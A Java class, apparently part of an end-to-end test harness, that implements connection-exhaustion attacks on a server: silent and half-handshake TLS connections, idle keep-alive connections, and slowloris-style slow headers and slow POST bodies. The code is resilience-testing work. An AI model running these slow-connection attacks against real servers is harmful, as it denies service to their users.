package dev.rolesanywhere.e2e.attacker;

import java.io.IOException;

/** Attacks by connections alone: they cost the attacker nothing, and the attacked a place each. */
final class Connections {
    /** A ClientHello of 512 bytes, of which no more follows. */
    private static final byte[] HALF_HELLO = {0x16, 3, 1, 2, 0, 1, 0, 1, (byte) 0xfc, 3, 3};

    /** How long a slow connection waits between two bytes, in turn. */
    private static final int[] PAUSES_MILLIS = {500, 2000, 25_000};

    private final Siege siege;
    private final Tally tally;
    private final String path;

    Connections(Siege siege, Tally tally, String path) {
        this.siege = siege;
        this.tally = tally;
        this.path = path;
    }

    /** Connects and sends nothing. With TLS, this is a handshake that never starts. */
    void silent(Target target, int number) throws IOException {
        try (Wire wire = Wire.plain(target, tally)) {
            tally.answered(wire.awaitPeer(siege.millisLeft()));
        }
    }

    void halfHandshake(Target target, int number) throws IOException {
        try (Wire wire = Wire.plain(target, tally)) {
            wire.send(HALF_HELLO);
            tally.answered(wire.awaitPeer(siege.millisLeft()));
        }
    }

    /** Finishes the handshake, and then sends nothing. */
    void idle(Target target, int number) throws IOException {
        try (Wire wire = Wire.open(target, tally)) {
            tally.answered(wire.awaitPeer(siege.millisLeft()));
        }
    }

    /** Sends one request, like a client with a persistent connection, and is idle after the answer. */
    void idleAfterAnAnswer(Target target, int number) throws IOException {
        try (Wire wire = Wire.open(target, tally)) {
            tally.requested();
            wire.send("GET " + path + " HTTP/1.1\r\nHost: x\r\n\r\n");
            tally.answered(wire.answer());
            tally.answered(wire.awaitPeer(siege.millisLeft()));
        }
    }

    void slowHead(Target target, int number) throws IOException {
        dribble(target, number, "GET " + path + " HTTP/1.1\r\nHost: x\r\nX-Slow: ");
    }

    void slowBody(Target target, int number) throws IOException {
        dribble(
                target,
                number,
                "POST " + path
                        + " HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n");
    }

    private void dribble(Target target, int number, String beginning) throws IOException {
        try (Wire wire = Wire.open(target, tally)) {
            tally.requested();
            wire.send(beginning);
            String peer = "held";
            while (peer.equals("held") && !siege.over()) {
                wire.send("x");
                peer = wire.awaitPeer(Math.min(siege.millisLeft(), PAUSES_MILLIS[number % PAUSES_MILLIS.length]));
            }
            tally.answered(peer);
        }
    }
}
